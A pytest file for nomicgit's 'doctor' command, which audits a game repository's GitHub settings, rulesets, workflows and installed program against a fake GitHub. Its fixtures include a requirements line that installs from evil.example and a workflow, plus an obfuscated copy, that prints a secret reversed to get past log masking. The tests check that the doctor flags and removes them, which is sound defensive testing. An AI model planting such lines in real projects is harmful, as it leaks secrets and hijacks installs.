"""The doctor: what is wrong with a game's place on GitHub, one thing at a time, and the whole against the fake."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fakegithub import FakeGitHub, Refusal, contract
from hostile.forging import Forger
from hostile.keeper import Kept
from hostile.small import Small
from msgspec.structs import replace
from support.keyed import KEY
from support.parlour import commands

from nomicgit.cli.bodies import founded_files
from nomicgit.cli.failures import NO_NETWORK
from nomicgit.forge import barrier, setup
from nomicgit.forge.apps import VARIABLE, App
from nomicgit.forge.doctor import ASLEEP, STEWARD, TIMER, Here, examine
from nomicgit.forge.environment import Environment
from nomicgit.forge.inspection import (
    Actions,
    Collaborator,
    Pages,
    Protection,
    Rule,
    Settings,
    Unseen,
    Workflow,
    WorkflowToken,
)
from nomicgit.git import Repository
from nomicgit.record import keepsakes
from nomicgit.record.forms import Forge
from nomicgit.record.game import Game
from nomicgit.record.secret.keyring import keep_key
from nomicgit.steward.seen import Person

NOW = 1_767_225_600
SITE = "https://nomic-club.example/game/"
HERE = Here(Forge("nomic-club/game", SITE), dict(setup.owned()), [], [], "refs/heads/main", NOW)
[WHEEL] = setup.program().keys() - {setup.REQUIREMENTS}
EVIL = b"nomicgit @ https://evil.example/x.tar.gz\n"
RULES = (
    Rule("non_fast_forward"),
    Rule("deletion"),
    Rule("required_status_checks", (setup.STATUS,)),
    Rule("pull_request"),
)
APP = App(
    "77",
    "court",
    {"contents": "write", "issues": "write", "pull_requests": "write", "statuses": "write"},
    True,
)
OWN = {"actor_id": 77, "actor_type": "Integration", "bypass_mode": "always"}
LAID = setup.ruleset() | {"id": 42, "bypass_actors": [OWN]}
SOUND = Settings(
    full_name="nomic-club/game", id=1, branch="main", of_organization=True, private=False, archived=False, issues=True,
    token_may=frozenset({"pull", "push", "admin"}), scopes=None, actions=Actions(enabled=True, allowed="all"),
    workflow_token=WorkflowToken("read", may_approve=False), fork_approval="first_time_contributors", protection=None,
    rules=RULES, pages=Pages("workflow", SITE), labels=(), collaborators=(Collaborator(Person(1, "ada"), "admin", True),),
    workflows=(Workflow(STEWARD, "active", NOW - 60),), environment=None, has_key=False,
    all_have_key=False, app=APP, barrier=None,
)  # fmt: skip
OLD = Protection((setup.STATUS,), True, False, True, False, False)
HIDDEN = Unseen("Resource not accessible")


def test_a_place_that_is_as_it_should_be() -> None:
    assert examine(SOUND, HERE).findings == ()
    assert [each.what for each in examine(SOUND, HERE).unseen] == ["who stands in a ruleset's bypass list"]
    assert "owners (ada) can edit" in examine(SOUND, HERE).left_open[-1].what


def test_a_workflow_by_another_name_is_named() -> None:
    texts = {path: text for path, text in setup.owned().items() if path.endswith("bell.yml")}
    [(bell, text)] = texts.items()
    gong = bell.replace("bell", "gong")
    assert setup.copied(gong, text + b"# older, or edited since\n") == bell
    assert [setup.copied(*each) for each in ((bell, text), (gong, b"name: gong\n"), ("gong.yml", text))] == [
        ""
    ] * 3
    [named] = examine(SOUND, replace(HERE, copies={gong: bell})).findings
    assert str(named).startswith(f"{gong}: it is bell.yml by another name, and runs beside it")


def test_without_an_app_what_only_one_can_shut_is_open_and_nothing_is_wrong() -> None:
    alone = replace(SOUND, app=None)
    assert examine(replace(alone, rules=RULES[:2]), HERE).findings == ()
    assert "the Merge button is open to whoever may write" in examine(alone, HERE).left_open[0].what
    assert [each.what for each in examine(replace(alone, rules=RULES[:1]), HERE).findings] == [
        "the default branch takes its deletion"
    ]


def test_where_an_app_is_not_to_be_seen_nothing_is_guessed_of_it() -> None:
    blind = replace(SOUND, app=HIDDEN, rules=RULES[:2], barrier=LAID)
    seen = examine(blind, HERE)
    assert seen.findings == ()
    assert any("whether an App pushes for the steward: Resource" in each.what for each in seen.unseen)
    assert not any("without an App" in each.what for each in seen.left_open)


def test_a_laid_ruleset_is_the_file() -> None:
    """Who may pass it by is seen then; what GitHub fills in is no difference."""
    filled = json.loads(json.dumps(LAID))
    filled["rules"][2]["parameters"]["allowed_merge_methods"] = ["merge"]
    whole = examine(replace(SOUND, barrier=filled), HERE)
    assert (whole.findings, whole.unseen) == ((), ())
    own_token = replace(SOUND, app=App(name="court"), barrier=filled)
    assert examine(own_token, HERE).findings == ()


def test_the_rulesets_are_such_as_github_reads() -> None:
    """Held to GitHub's published description of a rule, and to what this doctor asks for."""
    written = setup.files(Forge("ana/attic", "https://ana.github.io/attic/"))
    whole, least = (json.loads(written[path]) for path in (setup.RULESET, setup.WITHOUT_APP))
    assert {each["type"] for each in whole["rules"]} == {rule.kind for rule in RULES}
    assert {each["type"] for each in least["rules"]} == {"deletion", "non_fast_forward"}
    for each in whole["rules"]:
        schema = {"$ref": f"#/components/schemas/repository-rule-{each['type'].replace('_', '-')}"}
        assert list(contract.invalid(schema, each)) == []
    assert list(contract.invalid(schema, {"type": "required_status_checks", "parameters": {}})) != []
    assert (whole["target"], whole["enforcement"]) == ("branch", "active")
    assert whole["conditions"]["ref_name"]["include"] == ["~DEFAULT_BRANCH"]


def test_the_old_way_to_protect_a_branch_is_as_good() -> None:
    assert examine(replace(SOUND, rules=(), protection=OLD), HERE).findings == ()


@pytest.mark.parametrize(
    ("different", "what"),
    [
        ({"full_name": "nomic-club/another"}, "is called nomic-club/another now"),
        ({"archived": True}, "archived"),
        ({"private": True}, "the repository is private"),
        ({"issues": False}, "no issues"),
        ({"branch": "trunk"}, "default branch is not main"),
        ({"scopes": frozenset({"repo", "workflow"})}, "may more than the steward needs: workflow"),
        ({"actions": Actions(enabled=False, allowed="")}, "Actions are off"),
        ({"actions": Actions(enabled=True, allowed="local_only")}, "not even checkout"),
        ({"workflow_token": WorkflowToken("write", may_approve=False)}, "every workflow's token may write"),
        ({"workflow_token": WorkflowToken("read", may_approve=True)}, "may approve pull requests"),
        ({"fork_approval": "all_external_contributors"}, "waits for an owner"),
        ({"rules": (*RULES[:2], RULES[3])}, "the Merge button is open"),
        ({"rules": RULES[:3]}, "no pull request is required"),
        ({"rules": (), "protection": replace(OLD, pull_required=False)}, "no pull request is required"),
        ({"rules": RULES[1:]}, "takes force pushes"),
        ({"rules": (RULES[0], *RULES[2:])}, "takes its deletion"),
        ({"rules": (*RULES, Rule("pull_request", dismisses=True))}, "dismisses approvals"),
        ({"rules": (), "protection": replace(OLD, contexts=("build",))}, "the Merge button is open"),
        ({"rules": (), "protection": replace(OLD, force_pushes=True)}, "takes force pushes"),
        ({"rules": (), "protection": replace(OLD, dismisses=True)}, "dismisses approvals"),
        ({"barrier": LAID | {"enforcement": "disabled"}}, "is not what this file says: enforcement"),
        ({"barrier": LAID | {"rules": LAID["rules"][:3]}}, "required_status_checks is missing"),
        ({"barrier": LAID | {"rules": [*LAID["rules"], {"type": "creation"}]}}, "creation is more than"),
        (
            {"barrier": LAID | {"rules": [*LAID["rules"][:2], {"type": "pull_request"}, LAID["rules"][3]]}},
            "pull_request says something else",
        ),
        ({"barrier": LAID | {"bypass_actors": []}}, "Integration 77 may not pass it by"),
        (
            {"barrier": LAID | {"bypass_actors": [OWN, {"actor_id": 5, "actor_type": "RepositoryRole"}]}},
            "RepositoryRole 5 may pass it by",
        ),
        ({"app": None, "barrier": LAID}, "pull_request is more than the file says"),
        ({"app": App("Iv1.abc")}, "which is no App's number"),
        ({"app": replace(APP, installed=False)}, "no App of the number 77"),
        ({"app": replace(APP, suspended=True)}, "the App court is suspended"),
        ({"app": replace(APP, may={**(APP.may or {}), "contents": "read"})}, "may not write"),
        ({"app": replace(APP, may={**(APP.may or {}), "workflows": "write"})}, "needs: workflows"),
        ({"pages": None}, "there is no site"),
        ({"pages": Pages("legacy", SITE)}, "built from a branch"),
        ({"pages": Pages("workflow", "https://elsewhere.example/")}, "the forms point to"),
        (
            {"collaborators": (Collaborator(Person(2, "cy"), "write", True),)},
            "may write though they own nothing",
        ),
        (
            {
                "collaborators": (
                    Collaborator(Person(3, "court[bot]", bot=True), "write", True),
                    Collaborator(Person(4, "github-actions[bot]", bot=True), "admin", True),
                    Collaborator(Person(5, "merger[bot]", bot=True), "admin", True),
                )
            },
            "these may write though they own nothing, and so edit what others said: merger[bot]",
        ),
        ({"workflows": ()}, "GitHub knows no such workflow"),
        ({"workflows": (Workflow(STEWARD, "disabled_inactivity", NOW),)}, "the steward does not run"),
        ({"workflows": (Workflow(STEWARD, "active", None),)}, "has not run ever"),
        (
            {
                "workflows": (
                    Workflow(STEWARD, "active", NOW - 60),
                    Workflow(TIMER, "disabled_inactivity", NOW),
                )
            },
            "the timer is off (disabled_inactivity)",
        ),
        ({"workflows": (Workflow(STEWARD, "active", NOW - ASLEEP - 1),)}, "has not run since"),
    ],
)
def test_one_thing_is_wrong_on_the_forge(different: dict[str, Any], what: str) -> None:
    found = examine(replace(SOUND, **different), HERE).findings
    assert len(found) == 1, found
    assert what in found[0].what
    assert found[0].mend


@pytest.mark.parametrize(
    ("different", "what"),
    [
        ({"owned": {**HERE.owned, STEWARD: None}}, "the workflow is missing"),
        ({"owned": {**HERE.owned, STEWARD: b"on: push\n"}}, "is not the one that comes with"),
        ({"owned": {**HERE.owned, setup.REQUIREMENTS: None}}, "the workflows install nothing"),
        (
            {"owned": {**HERE.owned, setup.REQUIREMENTS: EVIL}},
            "than this program: nomicgit @ https://evil.example/",
        ),
        ({"owned": {**HERE.owned, setup.REQUIREMENTS: b""}}, "install something else than this program"),
        ({"owned": {**HERE.owned, WHEEL: b"PK"}}, "is not this program, whatever is called so"),
        ({"left": [f"{setup.PROGRAMS}nomicgit-0.0.9-py3-none-any.whl"]}, "no workflow installs it any more"),
        (
            {"stale": [".github/ISSUE_TEMPLATE/explore.yml"]},
            "not what the rules make: explore.yml",
        ),
        ({"branch": "refs/heads/trunk"}, "default branch is not main"),
    ],
)
def test_one_thing_is_wrong_in_the_repository(different: dict[str, Any], what: str) -> None:
    found = examine(SOUND, replace(HERE, **different)).findings
    assert len(found) == 1, found
    assert what in found[0].what
    assert found[0].mend


@pytest.mark.parametrize(
    "part",
    [
        "actions",
        "workflow_token",
        "fork_approval",
        "protection",
        "rules",
        "pages",
        "labels",
        "collaborators",
        "workflows",
    ],
)
def test_what_the_token_may_not_see_is_said_and_not_guessed(part: str) -> None:
    blind: dict[str, Any] = {part: HIDDEN}
    found = examine(replace(SOUND, **blind), HERE)
    assert found.findings == ()
    assert any("Resource not accessible" in each.what for each in found.unseen)


def test_a_game_that_keeps_secrets_needs_its_key_among_the_secrets() -> None:
    keyed = replace(HERE, keys=True)
    [lacking] = examine(SOUND, keyed).findings
    assert "the steward has no key" in lacking.what
    assert "the environment nomicgit has no secret NOMICGIT_KEY" in lacking.what
    assert examine(replace(SOUND, has_key=True), keyed).findings == ()
    [open_to_all] = examine(replace(SOUND, has_key=True, all_have_key=True), keyed).findings
    assert "workflows of every branch are given the key" in open_to_all.what
    hidden = examine(replace(SOUND, has_key=HIDDEN), keyed)
    assert hidden.findings == ()
    assert any("whether the steward has the key" in each.what for each in hidden.unseen)


@pytest.mark.parametrize(("branches", "which"), [
    (None, "every branch"), (("main", "feature/*"), "feature/*"), ((), "no branch"), (("main",), None),
])  # fmt: skip
def test_the_stewards_secrets_are_for_workflows_of_the_games_branch_alone(
    branches: tuple[str, ...] | None, which: str | None
) -> None:
    found = [each.what for each in examine(replace(SOUND, environment=Environment(branches)), HERE).findings]
    said = f"workflows of {which} are given the steward's secrets, and main alone is to have them"
    assert found == ([said] if which else [])


@pytest.fixture
def doctor(
    tmp_path: Path, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., str]:
    """Ask the doctor of a small game about the fake, as an owner; the exit code must be as told."""
    forge, restore = {"github": github.repo.full_name, "site": SITE}, {"by": ["ana"], "of": 1}
    small = Small.found(tmp_path / "game", time="live", forge=forge, restore=restore)
    beside = founded_files.files(Game.open(small.folder).settings, keys=False)
    Forger(small).add("Setting up", beside)
    small.git("reset", "-q", "--hard")
    monkeypatch.setenv("GITHUB_API_URL", github.url)
    monkeypatch.setenv("GITHUB_TOKEN", github.token(github.user("ada", role="admin")))

    def ask(*arguments: str, code: int, command: str = "doctor") -> str:
        return commands(capsys, command, "-C", str(small.folder))(*arguments, code=code).all

    return ask


EVIL_ONE = """\
on: push
permissions: write-all
jobs:
  take:
    environment: nomicgit
    runs-on: ubuntu-24.04
    steps:
      - run: echo "${{ secrets.NOMICGIT_KEY }}" | rev
"""
HARMLESS = "on: push\npermissions: {}\njobs: {spell: {runs-on: ubuntu-24.04, steps: [{run: make spell}]}}\n"
HIDDEN_ONE = EVIL_ONE.replace("environment", '"environ\\u006dent"').replace("secrets.", "Secrets['X'].")


def test_the_doctor_names_workflows_that_are_none_of_ours_with_who_brought_them(
    doctor: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_TOKEN")
    small, folder = Small(tmp_path / "game"), setup.WORKFLOWS
    forger = Forger(small)
    forger.add("Spell", {f"{folder}spell.yml": HARMLESS.encode()}, author="ben")
    small.git("reset", "-q", "--hard")
    assert json.loads(doctor("--json", code=1))["findings"] == []
    brought = {f"{folder}evil.yml": EVIL_ONE.encode(), f"{folder}hidden.yaml": HIDDEN_ONE.encode()}
    evil = forger.add("Better", brought, author="eve").oid
    forger.add("Better still", {f"{folder}evil.yml": EVIL_ONE.encode() + b"# so\n"})
    small.git("reset", "-q", "--hard")
    found = json.loads(doctor("--json", code=1))
    assert [each["file"] for each in found["findings"]] == [*brought]
    for each in found["findings"]:
        assert f"commit {evil[:12]} in the name of eve" in each["what"]
        for may in ("read the secrets", "run in an environment", "write"):
            assert may in each["what"]
    assert [each["file"] for each in found["open"]] == [f"{folder}spell.yml"]
    assert "in the name of ben" in found["open"][0]["what"]
    assert "; it may" not in found["open"][0]["what"]
    small.git(*found["findings"][0]["commands"][1].split()[1:])
    small.git("commit", "-qm", "Out")
    assert [each["file"] for each in json.loads(doctor("--json", code=1))["findings"]] == [
        f"{folder}hidden.yaml"
    ]


def test_the_doctor_names_what_is_gone_and_brings_it(
    doctor: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_TOKEN")
    small = Small(tmp_path / "game")
    gone = [".gitattributes", ".gitignore", "README.md", "SETUP.md", "docs/.gitkeep", "mkdocs.yml"]
    texts = {path: (small.folder / path).read_bytes() for path in gone}
    Forger(small).add("Away with it", {**dict.fromkeys(gone), setup.RULESET: b"{}"})
    small.git("reset", "-q", "--hard")
    found = {each["file"]: each["what"] for each in json.loads(doctor("--json", code=1))["findings"]}
    assert sorted(found) == sorted([*gone, setup.RULESET])
    assert "the site cannot be built" in found["mkdocs.yml"]
    assert found[setup.RULESET] == "it is no ruleset: it has no list of rules"
    said = doctor("--mend", code=1)
    assert "left alone: .github/ruleset.json: it is no ruleset" in said
    assert [path for path in gone if f"brought: {path}" not in said] == []
    assert {path: (small.folder / path).read_bytes() for path in gone} == texts
    small.git("commit", "-qm", "Back")
    shutil.rmtree(small.folder / ".github")
    (small.folder / "README.md").unlink()
    left, lies = json.loads(doctor("--json", code=1))["findings"]
    assert left["file"] == setup.RULESET
    assert lies["what"] == "the folder lacks what is committed: .github, README.md"
    small.git(*lies["commands"][0].split()[1:])
    assert small.git("status", "--porcelain") == ""


def test_a_ruleset_that_bars_less_than_the_programs_is_named_and_had_back_and_one_that_bars_more_is_its_owners(
    doctor: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_TOKEN")
    small = Small(tmp_path / "game")
    weak = (small.folder / setup.RULESET).read_text(encoding="utf-8").replace("deletion", "update")
    more = json.loads(weak.replace("update", "deletion"))
    more["rules"] += [{"type": "required_signatures"}]
    more["rules"][2]["parameters"]["required_approving_review_count"] = 1
    more["rules"][3]["parameters"]["required_status_checks"] += [{"context": "lint"}]
    stronger = setup.WITHOUT_APP, json.dumps(more).encode()
    Forger(small).add("Weaker", {setup.RULESET: weak.encode(), stronger[0]: stronger[1]})
    small.git("reset", "-q", "--hard")
    [left] = json.loads(doctor("--json", code=1))["findings"]
    assert left["file"] == setup.RULESET
    assert left["what"] == "it bars less than the one that comes with the program: deletion is missing"
    assert "left alone: .github/ruleset.json: it bars less" in doctor("--mend", code=1)
    for each in left["commands"]:
        if each.startswith("git rm"):
            small.git(*each.split()[1:])
    doctor("--mend", code=0)
    small.git("commit", "-qm", "Back")
    assert json.loads(doctor("--json", code=1))["findings"] == []
    assert "all is current" in doctor("--mend", code=0)
    for each in setup.rulesets().values():
        assert [*barrier.weaker({**each, "enforcement": "evaluate"}, each)] == ["another enforcement"]


def test_a_doctor_of_an_older_program_calls_a_newer_one_newer_and_never_goes_back(
    doctor: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_TOKEN")
    small, wheel, bell = Small(tmp_path / "game"), io.BytesIO(), f"{setup.WORKFLOWS}bell.yml"
    gong = f"{setup.WORKFLOWS}gong.yml"
    with zipfile.ZipFile(wheel, "w") as archive:
        for path in (bell, gong):
            archive.writestr(f"nomicgit/forge/setup/workflows/{path.rpartition('/')[2]}", f"# newer {path}\n")
    newer = f"{setup.PROGRAMS}nomicgit-99.0-py3-none-any.whl"
    lines = f"./{newer}[site] --hash=sha256:{hashlib.sha256(wheel.getvalue()).hexdigest()}\nclick==99\n"
    changes: dict[str, bytes | None] = dict.fromkeys(setup.owned())
    changes |= {newer: wheel.getvalue(), setup.REQUIREMENTS: lines.encode()}
    changes |= {path: f"# newer {path}\n".encode() for path in (bell, gong)}
    Forger(small).add("Newer", changes)
    small.git("reset", "-q", "--hard")
    found = json.loads(doctor("--json", code=1))
    assert found["findings"] == []
    [told] = [each for each in found["unseen"] if "which is newer than this program" in each["what"]]
    assert "the game runs nomicgit 99.0" in told["what"]
    assert newer in told["commands"][0]
    assert "nomicgit 99.0" in doctor("--mend", code=1)
    assert small.git("status", "--porcelain") == ""
    Forger(small).add("Another bell", {bell: b"on: push\n", newer: b"PK"})
    small.git("reset", "-q", "--hard")
    wrong = {each["file"]: each["what"] for each in json.loads(doctor("--json", code=1))["findings"]}
    assert "it is not there as the requirements name it" in wrong[newer]
    assert [setup.newer({setup.REQUIREMENTS: lines.replace("99.0", each).encode()}.get) is not None
            for each in ("0.0.9", "0.1.0", "0.1", "0.1.0rc1", "0.1.1.dev0", "0.10.0", "0.2.0")] == [
        False, False, False, False, True, True, True]  # fmt: skip


def test_the_doctor_names_a_commit_that_stops_the_steward_and_files_that_tell_of_another_place(
    doctor: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With no way to GitHub as well, which it tries, and says what is at hand all the same."""
    monkeypatch.setenv("GITHUB_API_URL", "http://127.0.0.1:9")
    monkeypatch.setattr(time, "sleep", lambda _: None)
    small = Small(tmp_path / "game")
    there = (small.folder / "SETUP.md").read_text(encoding="utf-8")
    stray = Forger(small).add(
        "By hand",
        {"game/state/players/ana.yml": None, "SETUP.md": there.replace("nomic-club", "zed").encode()},
    )
    small.git("reset", "-q", "--hard")
    said = doctor(code=NO_NETWORK)
    assert "it cannot be reached" in said
    assert f"no deed: commit {stray.oid[:12]}" in said
    assert "SETUP.md: it tells of another place" in said


def test_what_takes_the_forms_out_is_mended_first_whatever_lies_in_the_folder_by_then(
    doctor: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_TOKEN")
    small = Small(tmp_path / "game")
    before = small.git("rev-parse", "HEAD").strip()
    small.git("rm", "-rq", ".github", "README.md")
    small.git("commit", "-qm", "Away with it")
    first, *rest = json.loads(doctor("--json", code=1))["findings"]
    assert "is no deed" in first["what"]
    assert len(rest) > len(setup.owned())
    assert [each for each in rest if each.get("commands") or "mend first" not in each["mend"]] == []
    said = doctor("--mend", code=1)
    assert "nothing is brought before that is mended" in said
    small.git("checkout", "-q", before, "--", ".github", "README.md")  # as somebody has it back by hand
    doctor("--as", "ana", *first["commands"][0].split()[2:], code=0, command="mend")
    assert small.git("diff", before, "--stat", "--", ".github") == ""
    said = doctor(code=0, command="verify")
    assert said.count("mended") == 1
    assert "more of this commit (--json has all)" in said
    small.git("commit", "-qm", "Back")
    assert json.loads(doctor("--json", code=1))["findings"] == []


@pytest.mark.slow
def test_the_doctor_finds_what_is_wrong_with_a_bare_repository(doctor: Callable[..., str]) -> None:
    said = doctor(code=1)
    for what in (
        "the Merge button is open",
        "takes force pushes and its deletion",
        "there is no site",
        "no such workflow",
    ):
        assert what in said


def test_the_doctor_finds_nothing_where_all_is_set_up(doctor: Callable[..., str], github: FakeGitHub) -> None:
    github.app("court", 77)
    github.settings["variables"] = {VARIABLE: "77"}
    github.protect("main", [setup.STATUS], but=[github.steward])
    github.settings |= {"pages": "workflow", "workflows": {STEWARD: ("active", 4_000_000_000)}}
    found = json.loads(doctor("--json", code=0))
    assert (found["repository"], found["sound"], found["findings"]) == (github.repo.full_name, True, [])


def test_the_doctor_says_what_its_token_does_not_see(doctor: Callable[..., str], github: FakeGitHub) -> None:
    github.app("court", 77)
    github.settings |= {"unseen": ["actions", "protection"], "variables": {VARIABLE: "77"}}
    said = doctor(code=1)
    assert "not seen: whether Actions run" in said
    assert "the Merge button" not in said


def test_what_was_brought_and_committed_before_the_mend_comes_along_with_what_was_committed_upon_it(
    doctor: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_TOKEN")
    small = Small(tmp_path / "game")
    before = small.git("rev-parse", "HEAD").strip()
    small.git("rm", "-rq", ".github", "README.md")
    small.git("commit", "-qm", "Away with it")
    small.git("clone", "--quiet", "--bare", ".", str(tmp_path / "there"))
    small.git("remote", "add", "origin", str(tmp_path / "there"))
    small.git("fetch", "--quiet")
    small.git("branch", "--quiet", "--set-upstream-to=origin/main")
    small.git("checkout", "-q", before, "--", ".github", "README.md")
    small.git("commit", "-qm", "Back")
    for text in ("one", "two"):
        (small.folder / STEWARD).write_text(text)
        small.git("commit", "-qam", text)
    doctor("--as", "ana", "--to", before, code=0, command="mend")
    doctor(code=0, command="sync")
    assert small.git("log", "-4", "--format=%s").split("\n")[:3] == ["two", "one", "Back"]
    assert small.git("show", f"origin/main:{STEWARD}") == "two"
    assert small.git("diff", before, "--stat", "--", ".github/ISSUE_TEMPLATE") == ""


def test_the_doctor_mends_workflows(doctor: Callable[..., str], tmp_path: Path) -> None:
    small = Small(tmp_path / "game")
    older = f"{setup.PROGRAMS}nomicgit-0.0.9-py3-none-any.whl"
    Forger(small).add("Ours is nicer", {STEWARD: b"on: push\n", setup.REQUIREMENTS: EVIL, older: b"PK"})
    small.git("reset", "-q", "--hard")
    said = doctor("--mend", code=0)
    assert f"brought: {STEWARD}" in said
    assert doctor(code=1).count("as it is to be; look at it, and commit it:") == 3
    assert f"taken out: {older}" in said
    assert small.git("show", f":{STEWARD}").encode() == setup.workflows()[STEWARD]
    assert small.git("ls-files", setup.PROGRAMS).split() == [WHEEL]
    assert (small.folder / WHEEL).read_bytes() == setup.program()[WHEEL]
    assert not (small.folder / older).exists()
    assert "evil" not in small.git("show", f":{setup.REQUIREMENTS}")
    (small.folder / STEWARD).write_text("on: push\n")
    assert doctor(code=1).count("as it is to be; look at it, and commit it:") == 2


def test_a_doctor_without_a_token_says_so(
    doctor: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_TOKEN")
    assert "GITHUB_TOKEN" in doctor(code=1)


@pytest.mark.slow
def test_setup_lays_the_ruleset_of_the_file_once(doctor: Callable[..., str], github: FakeGitHub) -> None:
    """Without an App the small one, which bars nobody's push; with one the whole one, which only the App passes by."""
    small = doctor(command="setup", code=0)
    assert f"{setup.WITHOUT_APP} is laid; it bars force pushes" in small
    [only] = github.rulesets.values()
    assert [each["type"] for each in only["rules"]] == ["deletion", "non_fast_forward"]
    assert "open: the Merge button is open" in doctor(code=1)
    app = github.app("court", 77)
    github.settings["variables"] = {VARIABLE: "77"}
    assert "the ruleset on GitHub is not what this file says" in doctor(code=1)
    would = doctor("--dry-run", command="setup", code=0)
    assert f"{setup.RULESET} would be laid (pull_request is missing; " in would
    assert len(only["rules"]) == 2
    assert f"{setup.RULESET} is laid; the App court passes by it" in doctor(command="setup", code=0)
    [laid] = github.rulesets.values()
    assert laid["bypass_actors"] == [OWN]
    said = doctor(code=1)
    assert "ruleset" not in said.replace("take the ruleset away", "")
    assert "bypass list" not in said
    assert github.settings["environments"]["nomicgit"]["branches"] == ["main"]
    github.forget()
    assert "is laid as it says" in doctor(command="setup", code=0)
    assert {each.method for each in github.asked("rest")} == {"GET"}
    pull = github.open_pull(app, head="main", title="More")
    with pytest.raises(Refusal, match="Required status check"):
        github.merge(github.user("owner", role="admin"), pull)


def test_setup_prints_the_file_where_the_token_may_not_lay_it(
    doctor: Callable[..., str], github: FakeGitHub, capsys: pytest.CaptureFixture[str]
) -> None:
    github.settings["unseen"] = ["rulesets"]
    said = doctor(command="setup", code=1)
    whole, _, rest = said.partition("\n}\n")
    assert json.loads(whole + "}") == setup.ruleset(app=False)
    assert "Import a ruleset" in rest
    assert json.loads(doctor("--json", command="setup", code=1))["laid"] is False
    github.settings["unseen"] = ["variables"]
    assert "it is not to be seen whether an App pushes" in doctor(command="setup", code=1)
    assert github.rulesets == {}


def test_setup_bars_nobody_by_an_app_that_is_not_there(
    doctor: Callable[..., str], github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    github.settings["variables"] = {VARIABLE: "78"}
    assert "no App of the number 78" in doctor(command="setup", code=1)
    app = github.app("court", 77)
    monkeypatch.setenv("GITHUB_TOKEN", github.token(app))
    assert "this is the token of the App court" in doctor(command="setup", code=1)
    assert github.rulesets == {}


@pytest.mark.slow
def test_setup_shows_the_key_once_and_to_nobody_who_has_none(
    doctor: Callable[..., str],
    tmp_path: Path,
    github: FakeGitHub,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Its line stands alone on what another program reads; once GitHub has a secret of its name it is not shown again."""
    assert "this game has no keys" in doctor("--key", command="setup", code=1)
    place = {"github": github.repo.full_name, "site": SITE}
    kept = Kept.begun(tmp_path / "kept", forge=place)
    Forger(kept).add("Setting up", setup.files(Forge(github.repo.full_name, SITE)))
    kept.git("reset", "-q", "--hard")
    said = commands(capsys, "setup", "-C", str(kept.folder))
    assert "the key of this game is not in this clone" in said("--key", code=1).all
    with Repository.open(kept.folder) as repository:
        keep_key(repository, KEY)
    shown = said("--key", code=0)
    assert shown.out == f"{KEY.text()}\n"
    assert "the environment nomicgit is laid" in shown.err
    assert KEY.text() not in said(code=0).all
    github.settings["environments"]["nomicgit"]["secrets"] = ["NOMICGIT_KEY"]
    refused = said("--key", code=1).all
    assert "the key is shown until nomicgit has it as NOMICGIT_KEY, and it is there" in refused
    assert KEY.text() not in refused
    examined = commands(capsys, "doctor", "-C", str(kept.folder))
    found = examined(code=1).all
    assert "the steward has no key" not in found
    assert "shares" not in found
    with Repository.open(kept.folder) as repository:
        keepsakes.keep(
            repository, keepsakes.SHARES, [1, 2, {"cy": "age1former", "dee": "age1gone"}, kept.head()]
        )
    found = examined(code=1).all
    assert (
        "shares that were handed out must be written anew, since cy has no mailbox now; dee has no" in found
    )
    assert "nomicgit keys share --anew" in found
